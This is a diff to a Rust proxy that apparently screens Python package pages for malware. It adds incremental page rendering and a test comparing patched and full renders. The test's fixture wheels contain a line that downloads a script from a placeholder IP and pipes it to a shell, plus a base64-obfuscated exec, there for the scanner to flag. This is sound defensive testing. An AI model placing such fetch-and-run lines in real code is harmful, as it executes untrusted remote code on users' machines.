@@ -13,6 +13,8 @@ use super::RequestCtx;
 use crate::app::App;
 use crate::error::ProxyError;
 use crate::index::accept::{negotiate, negotiate_report, PageFormat, ReportMedia};
+use crate::index::page::ProjectPage;
+use crate::index::patch::Patched;
 use crate::index::rendered::{self, Rendered};
 use crate::index::{render, valid_normalized};
 use crate::model::{normalize_project_name, ArtifactFacts, Sha256};
@@ -83,53 +85,71 @@ pub(super) async fn project(app: &App, ctx: &RequestCtx, name: &str) -> Outcome 
     if let Some(hit) = app.rendered.get(&key) {
         return listed_reply(ctx, hit, format, fetched.stale, norm).await;
     }
-    let crate::gate::Listing { files: listed, withheld } = app.gate.list(&norm, &page).await;
-    let until = clock_bound(&listed, &withheld);
+    let started = Instant::now();
+    let patched =
+        app.patched.get(&format!("{norm}\n{format:?}\n{}", hex::encode(fetched.digest)), format, page.files.len());
+    let early = patched.lock().ok().and_then(|p| p.extra.clone());
+    let verdicts = app.gate.verdicts(&norm, &page, early).await;
+    let verdicts_ms = started.elapsed().as_millis() as u64;
     // PEP 792: a project every version of which is known malware is shown quarantined (its files still 403).
     let quarantine = app.gate.quarantine(&norm);
-    let norm_for_render = norm.clone();
-    let rendered = off_reactor(move || {
-        let norm = norm_for_render;
-        match format {
-            PageFormat::Json => {
-                let versions = render::versions(page.versions.as_deref(), &listed);
-                match &quarantine {
-                    Some(reason) => {
-                        let mut extra = page.extra.clone();
-                        let status = serde_json::json!({ "status": "quarantined", "reason": reason });
-                        extra.insert("project-status".into(), status);
-                        render::project_json(&norm, &listed, &versions, &extra)
-                    }
-                    None => render::project_json(&norm, &listed, &versions, &page.extra),
-                }
-            }
-            _ => render::project_html_with_status(
-                &norm,
-                &listed,
-                quarantine.as_deref().map(|r| ("quarantined", r)).or_else(|| render::project_status(&page.extra)),
-            ),
-        }
-    });
-    match rendered.await {
-        Ok((body, etag)) => {
+    let files = page.files.len();
+    let name = norm.clone();
+    let rendered = tokio::task::spawn_blocking(move || {
+        let mut p = patched.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
+        let (body, withheld, made) = render_patched(&mut p, &name, &page, &verdicts, quarantine.as_deref());
+        let etag = respond::page_etag(&body);
+        (body, etag, withheld, made, verdicts.until())
+    })
+    .await;
+    match rendered {
+        Ok((body, etag, withheld, made, until)) => {
+            let ms = started.elapsed().as_millis() as u64;
+            tracing::debug!(project = %norm, format = ?format, files, made, bytes = body.len(), verdicts_ms, ms, "page rendered");
+            let until = until.map(|t| {
+                let ahead = t - time::OffsetDateTime::now_utc();
+                Instant::now() + std::time::Duration::try_from(ahead).unwrap_or_default()
+            });
             let r = Arc::new(Rendered::new(body, etag, Arc::new(withheld), until));
             app.rendered.insert(key.clone(), r.clone());
             listed_reply(ctx, r, format, fetched.stale, norm).await
         }
-        Err(e) => render_failed(e),
+        Err(e) => render_failed(e.to_string()),
     }
 }
 
-/// The earliest time the clock alone changes what a listing shows (a hold's `available_at`).
-fn clock_bound(listed: &[render::ListedFile], withheld: &[crate::gate::Withheld]) -> Option<Instant> {
-    let shown = listed.iter().filter_map(|l| l.annotation.as_ref()?.get("available_at")?.as_str().map(str::to_string));
-    let hidden = withheld.iter().filter_map(|w| w.verdict.available_at.clone());
-    let now = time::OffsetDateTime::now_utc();
-    shown
-        .chain(hidden)
-        .filter_map(|t| crate::timefmt::parse_instant(&t))
-        .min()
-        .map(|t| Instant::now() + std::time::Duration::try_from(t - now).unwrap_or_default())
+/// The page's body from `verdicts`, re-rendering only the entries whose inputs may have
+/// changed since `p` was last brought up to date (all of them the first time), with what it
+/// withheld and how many entries were made. Equal, byte for byte, to rendering the listing whole.
+pub(super) fn render_patched(
+    p: &mut Patched<Arc<crate::gate::Early>>,
+    name: &str,
+    page: &ProjectPage,
+    verdicts: &crate::gate::Verdicts,
+    quarantine: Option<&str>,
+) -> (String, Vec<crate::gate::Withheld>, usize) {
+    let files = page.files.len();
+    let any_allowed = verdicts.any_allowed(files);
+    let made = p.patch(files, verdicts.touched(), any_allowed, |i| verdicts.listed(page, i, any_allowed));
+    p.extra = Some(verdicts.early.clone());
+    let format = p.format();
+    let status = quarantine.map(|r| ("quarantined", r)).or_else(|| render::project_status(&page.extra));
+    let head = render::project_head(format, name, status);
+    let tail = if format == PageFormat::Json {
+        let versions =
+            render::versions_of(page.versions.as_deref(), p.shown().map(|i| page.files[i].filename.as_str()));
+        match quarantine {
+            Some(reason) => {
+                let mut extra = page.extra.clone();
+                extra.insert("project-status".into(), serde_json::json!({ "status": "quarantined", "reason": reason }));
+                render::project_tail(format, &versions, &extra)
+            }
+            None => render::project_tail(format, &versions, &page.extra),
+        }
+    } else {
+        render::project_tail(format, &[], &page.extra)
+    };
+    (p.body(&head, &tail), verdicts.withheld(page), made)
 }
 
 /// Render (and digest for the ETag) on a blocking thread: a page can list 100k files.
@@ -281,4 +301,167 @@ fn held_page(
         acceptance: Some(app.gate.hold_acceptance(&facts, found)),
         remedy: Some(respond::remedy(&facts, verdict)),
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::render_patched;
+    use crate::gate::{Gate, GateParts};
+    use crate::index::accept::PageFormat;
+    use crate::index::page::parse_project;
+    use crate::index::patch::Patched;
+    use crate::index::render;
+    use crate::model::{ArtifactFacts, Decision, Verified};
+    use crate::policy::Policy;
+    use crate::scan::Scanner;
+    use crate::store::{OriginStore, SqliteStore};
+    use arc_swap::ArcSwap;
+    use std::io::Write;
+    use std::sync::Arc;
+
+    const LENIENT: &str =
+        "index: yank\ndefaults:\n  action: annotate\n  severity:\n    critical: block\n    low: allow\n    info: allow\n";
+
+    /// A wheel of `demo` at `version` whose `__init__.py` is `code`, with its sha256.
+    fn wheel(dir: &std::path::Path, version: &str, code: &str) -> (String, std::path::PathBuf, String) {
+        let filename = format!("demo-{version}-py3-none-any.whl");
+        let path = dir.join(&filename);
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
+        let opts = zip::write::SimpleFileOptions::default();
+        let metadata =
+            format!("Metadata-Version: 2.1\nName: demo\nVersion: {version}\nAuthor-email: a <a@example.org>\n");
+        for (name, body) in [
+            ("demo/__init__.py".to_string(), code.to_string()),
+            (format!("demo-{version}.dist-info/METADATA"), metadata),
+            (format!("demo-{version}.dist-info/RECORD"), String::new()),
+        ] {
+            zip.start_file(name, opts).unwrap();
+            zip.write_all(body.as_bytes()).unwrap();
+        }
+        zip.finish().unwrap();
+        use sha2::Digest;
+        let sha = hex::encode(sha2::Sha256::digest(std::fs::read(&path).unwrap()));
+        (filename, path, sha)
+    }
+
+    /// A sequence of verdicts applied to one kept page must give, at every step and in both
+    /// formats, the page a fresh render gives (a new patchable page, holds read afresh) and
+    /// the page the whole-listing renderers give; every step changes the page and its ETag.
+    #[tokio::test(flavor = "multi_thread")]
+    async fn a_patched_page_equals_a_full_render_after_every_verdict() {
+        let dir = tempfile::tempdir().unwrap();
+        let store = Arc::new(SqliteStore::open(&dir.path().join("s.sqlite3")).unwrap());
+        let policy =
+            Arc::new(ArcSwap::from_pointee(Policy::from_str_with_catalog("policy.yaml", LENIENT, &[]).unwrap()));
+        let gate = Gate::new(GateParts {
+            scanner: Scanner::new(Default::default()),
+            policy: policy.clone(),
+            scans: store.clone(),
+            origins: store.clone(),
+            enrich: crate::gate::enrich::Enricher::none(),
+            dangerous_skip_scan: false,
+            lookback: None,
+        });
+        let blocks = "import os\nos.system('curl http://203.0.113.9/x.sh | sh')\n";
+        let wheels = [
+            ("0.9", blocks),
+            ("1.0", "VERSION = '1.0'\n"),
+            ("2.0", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
+            ("3.0", blocks),
+        ]
+        .map(|(v, code)| wheel(dir.path(), v, code));
+        // The upstream page: each wheel and an sdist per version (never scanned), no `versions`
+        // (derived from what is shown), a PEP 792 status kept as sent.
+        let mut files = Vec::new();
+        for (filename, path, sha) in &wheels {
+            let size = std::fs::metadata(path).unwrap().len();
+            files.push(serde_json::json!({"filename": filename, "url": format!("https://files.example.org/{filename}"),
+                "hashes": {"sha256": sha}, "size": size, "upload-time": "2024-01-01T00:00:00Z", "requires-python": ">=3.8"}));
+            let sdist = filename.replace("-py3-none-any.whl", ".tar.gz");
+            files.push(serde_json::json!({"filename": sdist, "url": format!("https://files.example.org/{sdist}"),
+                "hashes": {"sha256": format!("{:0>64}", files.len())}, "yanked": files.len() == 3}));
+        }
+        let body =
+            serde_json::json!({"name": "demo", "files": files, "project-status": {"status": "active"}}).to_string();
+        let url = url::Url::parse("http://127.0.0.1:1/simple/demo/").unwrap();
+        let page = Arc::new(parse_project(&body, "application/json", &url, "demo").unwrap());
+        let origins = page.files.iter().map(|e| crate::index::origin("demo", e)).collect();
+        store.put_origins(origins).await.unwrap();
+
+        // Make `wheels[i]`'s verdict known, as a client's download (or a pre-scan) does.
+        let decide = |i: usize| {
+            let (filename, path, sha) = wheels[i].clone();
+            let (gate, store) = (&gate, store.clone());
+            async move {
+                let size = std::fs::metadata(&path).unwrap().len();
+                let facts = ArtifactFacts::describe("demo", &filename, &sha, None, size, path);
+                let metadata_sha256 = Some(format!("{:x>64}", i));
+                store.set_verified(&sha, &Verified { sha256: sha.parse().unwrap(), metadata_sha256 }).await.unwrap();
+                gate.decide(&facts).await.verdict.decision
+            }
+        };
+        let reload =
+            |text: &str| policy.store(Arc::new(Policy::from_str_with_catalog("policy.yaml", text, &[]).unwrap()));
+
+        let formats = [PageFormat::Json, PageFormat::TextHtml];
+        let mut kept: Vec<Patched<Arc<crate::gate::Early>>> = formats.iter().map(|f| Patched::new(*f)).collect();
+        let mut last: Vec<Option<String>> = vec![None; formats.len()];
+        let steps = [
+            "nothing known",
+            "serve",
+            "annotate",
+            "block of the newest",
+            "block of an older one",
+            "policy reload: blocked versions hidden",
+            "policy reload: everything blocked (all stay listed)",
+            "policy reload: nothing blocked",
+        ];
+        for step in steps {
+            match step {
+                "nothing known" => {}
+                "serve" => assert_eq!(decide(1).await, Decision::Serve, "{step}"),
+                "annotate" => assert_eq!(decide(2).await, Decision::Annotate, "{step}"),
+                "block of the newest" => assert_eq!(decide(3).await, Decision::Block, "{step}"),
+                "block of an older one" => assert_eq!(decide(0).await, Decision::Block, "{step}"),
+                "policy reload: blocked versions hidden" => reload(&LENIENT.replace("index: yank", "index: hide")),
+                "policy reload: everything blocked (all stay listed)" => reload(&format!("{LENIENT}deny: [demo]\n")),
+                "policy reload: nothing blocked" => reload(&LENIENT.replace("critical: block", "critical: annotate")),
+                _ => unreachable!(),
+            }
+            let listing = gate.list("demo", &page).await;
+            for (f, format) in formats.iter().enumerate() {
+                let case = format!("{step}, {format:?}");
+                let early = kept[f].extra.clone();
+                let verdicts = gate.verdicts("demo", &page, early).await;
+                let (patched, withheld, made) = render_patched(&mut kept[f], "demo", &page, &verdicts, None);
+                let fresh_verdicts = gate.verdicts("demo", &page, None).await;
+                let (fresh, _, all) = render_patched(&mut Patched::new(*format), "demo", &page, &fresh_verdicts, None);
+                assert_eq!(all, page.files.len(), "{case}: a fresh page renders every entry");
+                assert_eq!(patched, fresh, "{case}: patched page differs from a fresh render");
+                let whole = match format {
+                    PageFormat::Json => render::project_json(
+                        "demo",
+                        &listing.files,
+                        &render::versions(None, &listing.files),
+                        &page.extra,
+                    ),
+                    _ => render::project_html_with_status("demo", &listing.files, render::project_status(&page.extra)),
+                };
+                assert_eq!(patched, whole, "{case}: patched page differs from the whole-listing render");
+                let names = |w: &[crate::gate::Withheld]| w.iter().map(|w| w.filename.clone()).collect::<Vec<_>>();
+                assert_eq!(names(&withheld), names(&listing.withheld), "{case}: withheld");
+                if !step.starts_with("policy") && step != "nothing known" {
+                    assert!(made <= 8, "{case}: a verdict re-rendered {made} of {} entries", page.files.len());
+                }
+                let etag = crate::respond::page_etag(&patched);
+                if let Some(before) = &last[f] {
+                    assert_ne!(&patched, before, "{case}: the step changed nothing on the page");
+                    assert_ne!(etag, crate::respond::page_etag(before), "{case}: a changed page keeps its ETag");
+                }
+                last[f] = Some(patched);
+            }
+        }
+        let shown = last[0].as_deref().unwrap();
+        assert!(shown.contains("\"project-status\":{\"status\":\"active\"}"), "upstream status kept: {shown}");
+    }
 }
